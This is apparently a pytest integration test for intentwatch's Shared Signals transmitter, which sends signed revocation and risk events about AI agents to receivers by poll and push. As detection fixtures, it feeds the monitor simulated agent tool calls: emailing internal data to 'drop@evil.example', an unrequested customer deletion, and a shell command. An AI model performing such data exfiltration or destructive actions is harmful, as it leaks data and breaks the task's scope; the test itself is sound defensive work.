"""The SSF transmitter on a real broker and a real worker, with a receiver written from the specs.

The receiver below knows nothing of intentwatch's code: it speaks OpenID SSF 1.0
(discovery, streams, status, verification), RFC 8936 (poll), RFC 8935 (push) and
RFC 8417 (SETs) over plain HTTP (urllib, http.server), and verifies signatures with
joserfc against the transmitter's published JWKS. It creates a poll stream and a
push stream, verifies both, receives a revocation by each, and sees both streams and
their undelivered SETs survive a restart of the transmitter. A second transmitter,
with CAEP risk-level-change events on, answers a long poll as the events come, hands
out one agent's revocations in the order they were decided, offers again what was not
acknowledged and forgets what was acknowledged or reported in ``setErrs``.
"""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
import uuid
from concurrent.futures import ThreadPoolExecutor
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from joserfc import jws
from joserfc.jwk import KeySet

from intentwatch.local.kafka_broker import free_port
from intentwatch.local.processes import spawn, stop
from tests.conftest import REPO, RunningWorker, wait_for

pytestmark = pytest.mark.kafka

PUSH, POLL = "urn:ietf:rfc:8935", "urn:ietf:rfc:8936"
SESSION_REVOKED = "https://schemas.openid.net/secevent/caep/event-type/session-revoked"
RISK_LEVEL_CHANGE = "https://schemas.openid.net/secevent/caep/event-type/risk-level-change"
VERIFICATION = "https://schemas.openid.net/secevent/ssf/event-type/verification"
TOKEN = f"rx-{uuid.uuid4().hex}"
PUSH_SECRET = f"Bearer push-{uuid.uuid4().hex}"
AUDIENCE = "https://broker.acme.org"


# -- a receiver, from the specifications ----------------------------------------------------


class Receiver:
    """An SSF receiver: discovery, stream management, SET validation (RFC 8417 + SSF 1.0)."""

    def __init__(self, issuer: str, token: str | None = TOKEN) -> None:
        self.issuer, self.token = issuer, token
        status, self.metadata = self.request("GET", f"{issuer}/.well-known/ssf-configuration",
                                             token=None)
        assert status == 200 and self.metadata["issuer"] == issuer   # SSF 6.2.3 / 6.2.4
        _, jwks = self.request("GET", self.metadata["jwks_uri"], token=None)
        self.jwks = jwks
        self.keys = KeySet.import_key_set(jwks)

    def request(self, method: str, url: str, body: Any = None, *, token: str | None = "",
                ) -> tuple[int, Any]:
        token = self.token if token == "" else token
        request = urllib.request.Request(url, method=method, data=None if body is None
                                         else json.dumps(body).encode())
        request.add_header("Content-Type", "application/json")
        if token is not None:
            request.add_header("Authorization", f"Bearer {token}")
        try:
            with urllib.request.urlopen(request, timeout=30) as response:
                data = response.read()
                return response.status, json.loads(data) if data else None
        except urllib.error.HTTPError as error:
            data = error.read()
            return error.code, json.loads(data) if data else None

    def endpoint(self, name: str) -> str:
        return self.metadata[name]

    def create(self, body: dict[str, Any]) -> dict[str, Any]:
        status, stream = self.request("POST", self.endpoint("configuration_endpoint"), body)
        assert status == 201, stream
        assert stream["iss"] == self.issuer and stream["aud"] == AUDIENCE
        return stream

    def poll(self, stream: dict[str, Any], **body: Any) -> dict[str, Any]:
        status, answer = self.request("POST", stream["delivery"]["endpoint_url"], body)
        assert status == 200, answer
        assert isinstance(answer["sets"], dict)                        # RFC 8936 2.5
        return answer

    def validate(self, token: str) -> dict[str, Any]:
        """Check a SET as a receiver must, and return its claims."""
        header = json.loads(_b64(token.split(".")[0]))
        assert header["typ"] == "secevent+jwt"                         # SSF 4.1.1
        assert header["alg"] == "RS256"                                # CAEP interop profile
        key = self.keys.get_by_kid(header["kid"])
        assert key.key_type == "RSA" and _rsa_bits(key) >= 2048        # interop: >= 2048 bits
        claims = json.loads(jws.deserialize_compact(token, key, algorithms=["RS256"]).payload)
        assert claims["iss"] == self.issuer                            # SSF 4.1.5
        assert claims["aud"] == AUDIENCE
        assert "sub" not in claims and "exp" not in claims             # SSF 4.1.2, 4.1.6
        assert len(claims["events"]) == 1                              # SSF 4.2.1, interop
        assert {"jti", "iat", "sub_id"} <= set(claims)                 # RFC 8417 2.2, SSF 3.1
        return claims


class PushEndpoint:
    """An RFC 8935 receiving endpoint: 202 for a good SET, 503 for the first ``failures``."""

    def __init__(self, receiver: Receiver, failures: int = 0) -> None:
        self.receiver, self.failures = receiver, failures
        self.received: list[dict[str, Any]] = []
        self.attempts = 0
        self.bad_requests: list[str] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["Content-Length"]))
                outer.attempts += 1
                if (self.headers["Content-Type"] != "application/secevent+jwt"
                        or self.headers["Authorization"] != PUSH_SECRET):
                    outer.bad_requests.append(str(self.headers))
                    self._answer(400, {"err": "authentication_failed",
                                       "description": "wrong headers"})
                    return
                if outer.failures > 0:
                    outer.failures -= 1
                    self._answer(503, None)
                    return
                outer.received.append(outer.receiver.validate(body.decode()))
                self._answer(202, None)                                # RFC 8935 2.2

            def _answer(self, status: int, body: Any) -> None:
                data = b"" if body is None else json.dumps(body).encode()
                self.send_response(status)
                self.send_header("Content-Length", str(len(data)))
                if body is not None:
                    self.send_header("Content-Type", "application/json")
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/events"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def _b64(segment: str) -> bytes:
    import base64

    return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))


def _rsa_bits(key: Any) -> int:
    return len(_b64(key.as_dict()["n"]).lstrip(b"\0")) * 8


# -- the transmitter process ----------------------------------------------------------------


class TransmitterProcess:
    """``python -m intentwatch.ssf`` on a free port, stopped by pid."""

    def __init__(self, worker: RunningWorker, home: Path, state_topic: str,
                 port: int | None = None, settings: dict[str, str] | None = None) -> None:
        self.port = port or free_port()
        self.issuer = f"http://127.0.0.1:{self.port}"
        self.log_file = home / f"ssf-{uuid.uuid4().hex[:6]}.log"
        receivers = home / "receivers.json"
        receivers.write_text(json.dumps({"receivers": [
            {"name": "broker", "token": TOKEN, "audience": AUDIENCE},
            {"name": "other", "token": f"other-{TOKEN}"},
        ]}))
        os.chmod(receivers, 0o600)
        env = {name: value for name, value in os.environ.items()
               if not name.startswith("INTENTWATCH_")}
        env.update({
            "PYTHONPATH": str(REPO),
            "INTENTWATCH_BOOTSTRAP": worker.bootstrap,
            "INTENTWATCH_ISSUER": worker.issuer,
            "INTENTWATCH_AUDIENCE": worker.audience,
            "INTENTWATCH_SSF_PORT": str(self.port),
            "INTENTWATCH_SSF_RECEIVERS": str(receivers),
            "INTENTWATCH_SSF_KEYS_DIR": str(home / "ssf-keys"),
            "INTENTWATCH_SSF_UPSTREAM_JWKS": worker.jwks_url,
            "INTENTWATCH_SSF_STATE_TOPIC": state_topic,
            "INTENTWATCH_SSF_POLL_WAIT_SECONDS": "10",
            "INTENTWATCH_SSF_PUSH_BACKOFF_SECONDS": "0.2",
            "INTENTWATCH_SSF_MIN_VERIFICATION_SECONDS": "1",
            **(settings or {}),  # more INTENTWATCH_SSF_* variables
        })
        self.process = spawn([sys.executable, "-m", "intentwatch.ssf"], self.log_file, env=env,
                             cwd=home)
        deadline = time.monotonic() + 90
        while True:
            if self.process.poll() is not None:
                pytest.fail(f"transmitter exited:\n{self.log()}")
            try:
                with urllib.request.urlopen(f"{self.issuer}/.well-known/ssf-configuration",
                                            timeout=2):
                    return
            except OSError:
                if time.monotonic() > deadline:
                    self.stop()
                    pytest.fail(f"transmitter not serving within 90 s:\n{self.log()}")
                time.sleep(0.2)

    def log(self) -> str:
        return self.log_file.read_text(errors="replace")

    def stop(self) -> None:
        stop(self.process)


def about(agent: str) -> Any:
    return lambda claims: claims["sub_id"].get("application", {}).get("uri") == agent


def ours(rx: Receiver, answer: dict[str, Any], agent: str,
         into: dict[str, dict[str, Any]]) -> list[str]:
    """Put the SETs of ``answer`` about ``agent`` into ``into`` (validated, in the order
    given); return the others' ids, to acknowledge."""
    others = []
    for jti, token in answer["sets"].items():
        claims = rx.validate(token)
        assert claims["jti"] == jti                                    # RFC 8936 2.5: by jti
        if about(agent)(claims):
            into.setdefault(jti, claims)
        else:
            others.append(jti)
    return others


def verification_of(stream: dict[str, Any]) -> Any:
    return lambda claims: claims["sub_id"] == {"format": "opaque", "id": stream["stream_id"]}


def take(rx: Receiver, stream: dict[str, Any], wanted: Any, count: int = 1,
         timeout: float = 60.0) -> list[tuple[str, dict[str, Any]]]:
    """Poll until ``count`` wanted SETs came; acknowledge the others (earlier tests' agents)."""
    found: dict[str, dict[str, Any]] = {}
    others: list[str] = []
    deadline = time.monotonic() + timeout
    while len(found) < count:
        assert time.monotonic() < deadline, f"only {len(found)} of {count} SETs by poll"
        answer = rx.poll(stream, ack=others)
        others = []
        for jti, token in answer["sets"].items():
            claims = rx.validate(token)
            assert claims["jti"] == jti                                # RFC 8936 2.5: by jti
            if wanted(claims):
                found[jti] = claims
            else:
                others.append(jti)
    if others:
        rx.poll(stream, ack=others, maxEvents=0)
    return list(found.items())


def revoke(worker: RunningWorker, agent: str, task: str) -> None:
    """A grant naming the task's token, then a call far outside it: an intent violation."""
    credential = f"c-{agent.rsplit('/', 1)[1]}-{task}"
    sdk = worker.publisher
    sdk.publish_grant(worker.grant(agent, task, token={"iss": "https://broker.acme.org",
                                                       "jti": credential}))
    sdk.publish_toolcall({"agent_id": agent, "task_id": task, "tool": "gmail.send_email",
                          "credential_id": credential, "target": "mailto:drop@evil.example",
                          "data_labels": ["internal"]})
    sdk.flush()


def check_revocation(claims: dict[str, Any], agent: str, task: str) -> None:
    """The claims of a session-revoked SET (CAEP 1.0, SSF 1.0 complex subject)."""
    event = claims["events"][SESSION_REVOKED]
    assert event["initiating_entity"] == "policy"
    assert event["reason_admin"]["en"]                                 # interop: non-empty
    assert isinstance(event["event_timestamp"], int)
    assert claims["sub_id"] == {
        "format": "complex",
        "application": {"format": "uri", "uri": agent},
        "session": {"format": "jwt_id", "iss": "https://broker.acme.org",
                    "jti": f"c-{agent.rsplit('/', 1)[1]}-{task}"},
    }
    assert claims["txn"] == claims["jti"]
    assert claims["intentwatch"]["task_id"] == task


def test_a_receiver_gets_revocations_by_poll_and_push_across_a_restart(
    worker: RunningWorker, agent: str, tmp_path: Path
) -> None:
    state_topic = f"t-ssf-{uuid.uuid4().hex[:10]}.streams"
    transmitter = TransmitterProcess(worker, tmp_path, state_topic)
    push = None
    try:
        rx = Receiver(transmitter.issuer)
        meta = rx.metadata
        assert meta["spec_version"] == "1_0"
        assert set(meta["delivery_methods_supported"]) == {PUSH, POLL}
        assert {jwk["alg"] for jwk in rx.jwks["keys"]} >= {"RS256", "ES256", "EdDSA"}
        streams_url, verify_url, status_url = (rx.endpoint(name) for name in (
            "configuration_endpoint", "verification_endpoint", "status_endpoint"))
        assert rx.request("GET", streams_url, token=None)[0] == 401
        assert rx.request("GET", streams_url, token="not-a-receiver")[0] == 401
        assert rx.request("GET", streams_url) == (200, [])

        polled = rx.create({"events_requested": [SESSION_REVOKED], "description": "poll"})
        assert polled["delivery"]["method"] == POLL                    # no delivery: poll
        assert polled["events_delivered"] == [SESSION_REVOKED]
        assert rx.request("POST", verify_url, {"stream_id": polled["stream_id"],
                                               "state": "poll-1"}) == (204, None)
        (_, verification), = take(rx, polled, verification_of(polled))
        assert verification["events"] == {VERIFICATION: {"state": "poll-1"}}

        push = PushEndpoint(rx, failures=2)
        pushed = rx.create({"delivery": {"method": PUSH, "endpoint_url": push.url,
                                         "authorization_header": PUSH_SECRET}})
        assert "authorization_header" not in pushed["delivery"]
        assert rx.request("POST", verify_url, {"stream_id": pushed["stream_id"],
                                               "state": "push-1"}) == (204, None)
        pushed_verification = wait_for(
            lambda: [c for c in push.received if verification_of(pushed)(c)], bool, 30,
            "the pushed verification event")
        assert pushed_verification[0]["events"] == {VERIFICATION: {"state": "push-1"}}
        assert push.failures == 0 and push.attempts >= 3, "two 503s were retried"

        other = Receiver(transmitter.issuer, token=f"other-{TOKEN}")
        assert other.request("GET", streams_url) == (200, [])
        assert other.request("GET", f"{streams_url}?stream_id={polled['stream_id']}")[0] == 404

        revoke(worker, agent, "t1")
        (first_jti, first), = take(rx, polled, about(agent))
        check_revocation(first, agent, "t1")
        pushed_first = wait_for(lambda: [c for c in push.received if about(agent)(c)], bool, 60,
                                "the pushed revocation")
        assert pushed_first[0]["jti"] == first_jti
        check_revocation(pushed_first[0], agent, "t1")

        # Restart: the poll stream's revocation was never acknowledged.
        transmitter.stop()
        assert transmitter.process.returncode == 0, transmitter.log()
        transmitter = TransmitterProcess(worker, tmp_path, state_topic, port=transmitter.port)
        status, streams = rx.request("GET", streams_url)
        assert status == 200
        assert sorted(s["stream_id"] for s in streams) == sorted(
            [polled["stream_id"], pushed["stream_id"]])
        assert next(s for s in streams if s["stream_id"] == polled["stream_id"]) == polled
        again = take(rx, polled, about(agent))
        assert [jti for jti, _ in again] == [first_jti], "delivered again until acknowledged"

        revoke(worker, agent, "t2")
        rx.poll(polled, ack=[first_jti], maxEvents=0)
        (second_jti, second), = take(rx, polled, about(agent))
        check_revocation(second, agent, "t2")
        rx.poll(polled, ack=[second_jti], maxEvents=0)
        wait_for(lambda: [c["jti"] for c in push.received], lambda jtis: second_jti in jtis, 60,
                 "the second pushed revocation")
        ours = [c["jti"] for c in push.received if about(agent)(c) or verification_of(pushed)(c)]
        assert list(dict.fromkeys(ours)) == [pushed_verification[0]["jti"], first_jti, second_jti]
        assert push.bad_requests == []

        assert rx.request("POST", status_url, {"stream_id": pushed["stream_id"],
                                               "status": "paused", "reason": "maintenance"}) == (
            200, {"stream_id": pushed["stream_id"], "status": "paused", "reason": "maintenance"})
        assert rx.request("GET", f"{status_url}?stream_id={pushed['stream_id']}")[1][
            "status"] == "paused"
        assert rx.request("DELETE", f"{streams_url}?stream_id={polled['stream_id']}") == (
            204, None)
        assert rx.request("GET", f"{streams_url}?stream_id={polled['stream_id']}")[0] == 404
    finally:
        transmitter.stop()
        if push is not None:
            push.close()
    for log in tmp_path.glob("ssf-*.log"):
        text = log.read_text(errors="replace")
        assert TOKEN not in text and PUSH_SECRET.split()[1] not in text, "a secret was logged"


def test_long_poll_order_redelivery_set_errors_and_risk_events(
    worker: RunningWorker, agent: str, tmp_path: Path
) -> None:
    redeliver = 1.0
    transmitter = TransmitterProcess(worker, tmp_path, f"t-ssf-{uuid.uuid4().hex[:10]}.streams",
                                     settings={"INTENTWATCH_SSF_RISK_EVENTS": "1",
                                               "INTENTWATCH_SSF_POLL_WAIT_SECONDS": "60",
                                               "INTENTWATCH_SSF_REDELIVER_SECONDS": str(redeliver)})
    try:
        rx = Receiver(transmitter.issuer)
        stream = rx.create({})                                         # every supported event
        assert stream["events_delivered"] == [SESSION_REVOKED, RISK_LEVEL_CHANGE]
        # The stream carries every agent's SETs: earlier tests' tasks may end (and so be
        # revoked) at any time. Only this agent's count; the others are acknowledged.
        before: dict[str, dict[str, Any]] = {}
        others = ours(rx, rx.poll(stream, returnImmediately=True), agent, before)  # at once
        assert before == {}                                            # (RFC 8936 2.4)
        rx.poll(stream, ack=others, maxEvents=0)

        with ThreadPoolExecutor(1) as pool:  # a long poll, waiting before anything happened
            waiting = pool.submit(rx.poll, stream)
            # One task's request delegates to data, so its unasked delete is at most an
            # alert whatever was learned; then it leaves its grant (revoke); two more tasks
            # are revoked after it, for the same agent.
            sdk, credential = worker.publisher, f"c-{agent.rsplit('/', 1)[1]}-t1"
            sdk.publish_grant(worker.grant(
                agent, "t1", token={"iss": "https://broker.acme.org", "jti": credential},
                intent="Do the tasks in the handover notes on customer c-42"))
            for tool, target in [("crm.lookup_customer", "crm://customers/c-42"),
                                 ("crm.delete_customer", "crm://customers/c-42"),
                                 ("shell.exec", "crm://customers")]:
                sdk.publish_toolcall({"agent_id": agent, "task_id": "t1", "tool": tool,
                                      "credential_id": credential, "target": target,
                                      "data_labels": ["internal"]})
            sdk.flush()
            for task in ("t2", "t3"):
                revoke(worker, agent, task)
            answer = waiting.result(timeout=90)
        assert answer["sets"], "the long poll returned with the first SET"

        revocations = worker.revocations(agent, 3)
        alerts = [json.loads(r.value)["event_id"] for r in worker.topics["verdicts"].of(agent, 5)
                  if json.loads(r.value)["decision"] == "alert"]
        assert alerts, "the drifting task raised an alert"
        wanted = len(revocations) + len(alerts)
        received: dict[str, dict[str, Any]] = {}
        others = ours(rx, answer, agent, received)
        while len(received) < wanted:  # nothing of ours acknowledged yet
            others = ours(rx, rx.poll(stream, ack=others, maxEvents=1), agent, received)
        revoked = [jti for jti, claims in received.items() if SESSION_REVOKED in claims["events"]]
        assert revoked == [r.revocation_id for r in revocations], "in the order decided"
        for jti in revoked:
            check_revocation(received[jti], agent, received[jti]["intentwatch"]["task_id"])
        risks = [claims for claims in received.values() if RISK_LEVEL_CHANGE in claims["events"]]
        assert sorted(claims["txn"] for claims in risks) == sorted(alerts)
        for claims in risks:
            event = claims["events"][RISK_LEVEL_CHANGE]
            assert event["principal"] == "SESSION" and event["current_level"] == "MEDIUM"
            assert claims["sub_id"]["session"] == {"format": "opaque", "id": "t1"}
            assert claims["intentwatch"]["task_id"] == "t1"

        # The receiver could not process the risk events (setErrs) and acknowledges the
        # first revocation: only the two others are offered again, oldest first.
        errors = {claims["jti"]: {"err": "invalid_request", "description": "not handled here"}
                  for claims in risks}
        rx.poll(stream, ack=[*revoked[:1], *others], setErrs=errors, maxEvents=0)
        # Each SET is offered again `redeliver` seconds after it was last sent, and the loop
        # above may have sent them at any time (a slow worker makes it poll longer): wait
        # until both are due, so that one poll offers them together, in their order.
        time.sleep(redeliver)
        again: dict[str, dict[str, Any]] = {}
        others = ours(rx, rx.poll(stream), agent, again)
        assert list(again) == revoked[1:]
        rx.poll(stream, ack=[*again, *others], maxEvents=0)
        time.sleep(2 * redeliver)
        left: dict[str, dict[str, Any]] = {}
        ours(rx, rx.poll(stream, returnImmediately=True), agent, left)
        assert left == {}, "all settled"
    finally:
        transmitter.stop()


def readme_example() -> tuple[list[str], str, str]:
    """The README's SSF section: its first shell block as commands, its Python, its last shell."""
    section = (REPO / "README.md").read_text().split("## Receive revocations over Shared", 1)[1]
    section = section.split("\n## ", 1)[0]
    setup, python, poll = re.findall(r"```(?:bash|python)\n(.*?)```", section, re.DOTALL)
    return [line for line in setup.splitlines() if line.strip()], python, poll


def test_the_readme_example_receives_the_revocation(
    kafka_bootstrap: str, issuer_key: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The README's commands as written, on free ports: its worker (unsigned grants allowed),
    its transmitter, stream and verification; then its Python; then its poll prints the
    session-revoked SET of the README's task."""
    commands, python, poll = readme_example()
    assert commands[:3] == ["intentwatch kafka up", "intentwatch topics create",
                            "INTENTWATCH_ALLOW_UNSIGNED_GRANTS=1 intentwatch worker &   "
                            "# web port 6066; dev only"]
    transmitter = next(c for c in commands if c.startswith("INTENTWATCH_SSF_RECEIVERS="))
    assert transmitter.split("#")[0].strip().endswith("intentwatch ssf &")
    worker = RunningWorker(kafka_bootstrap, tmp_path, issuer_key,
                           settings={"INTENTWATCH_ALLOW_UNSIGNED_GRANTS": "1"})
    port = free_port()
    env = {name: value for name, value in os.environ.items()
           if not name.startswith("INTENTWATCH_")}
    env.update({"PATH": f"{Path(sys.executable).parent}:{env['PATH']}", "PYTHONPATH": str(REPO),
                "INTENTWATCH_BOOTSTRAP": kafka_bootstrap, "INTENTWATCH_SSF_PORT": str(port),
                "INTENTWATCH_ISSUER": worker.issuer, "INTENTWATCH_AUDIENCE": worker.audience,
                "INTENTWATCH_SSF_UPSTREAM_JWKS": worker.jwks_url,
                "INTENTWATCH_SSF_STATE_TOPIC": f"t-ssf-{uuid.uuid4().hex[:10]}.streams"})

    def bash(script: str) -> list[Any]:
        """Run ``script``; the JSON documents it printed (curl ends none with a newline).
        Output goes to files: the transmitter it starts keeps writing to them."""
        script = script.replace("127.0.0.1:6070", f"127.0.0.1:{port}")
        out, err = tmp_path / "bash.out", tmp_path / "bash.err"
        with out.open("w") as stdout, err.open("a") as stderr:
            done = subprocess.run(["bash", "-euo", "pipefail", "-c", script], cwd=tmp_path,
                                  env=env, stdout=stdout, stderr=stderr, timeout=120)
        assert done.returncode == 0, err.read_text()
        text, found, decoder = out.read_text(), [], json.JSONDecoder()
        position = 0
        while text[position:].strip():
            position += len(text[position:]) - len(text[position:].lstrip())
            document, position = decoder.raw_decode(text, position)
            found.append(document)
        return found

    # The worker runs already; the transmitter's pid is kept to stop it; the variables are
    # kept for the last block.
    setup = "\n".join(commands[3:]) + "\necho $! > ssf.pid\ndeclare -p AUTH STREAM > vars.sh\n"
    try:
        metadata, verification = bash(setup)
        assert metadata["issuer"] == f"http://127.0.0.1:{port}"
        # the worker reads the session's whole log first: earlier tests' tasks may be
        # revoked again meanwhile, so the verification SET is one of what is polled
        polled = [json.loads(_b64(token.split(".")[1])) for token in verification["sets"].values()]
        assert {VERIFICATION: {"state": "hello"}} in [claims["events"] for claims in polled]
        assert all(VERIFICATION in claims["events"] or SESSION_REVOKED in claims["events"]
                   for claims in polled)
        monkeypatch.setenv("INTENTWATCH_BOOTSTRAP", kafka_bootstrap)
        exec(compile(python, "README.md", "exec"), {"__name__": "readme"})
        agent = "spiffe://acme.org/agents/support/agent-11"
        worker.revocations(agent, timeout=600)  # a new worker reads the session's log first
        printed = bash(f"source vars.sh\n{poll}")
        revoked = [c for c in printed if about(agent)(c) and SESSION_REVOKED in c["events"]]
        assert [c["intentwatch"]["task_id"] for c in revoked] == ["task-1111"]
        assert revoked[0]["aud"] == "https://broker.example"
    finally:
        pid = tmp_path / "ssf.pid"
        if pid.exists():  # the transmitter the README started, stopped by its pid
            os.kill(int(pid.read_text()), signal.SIGTERM)
        worker.close()
        worker.stop()
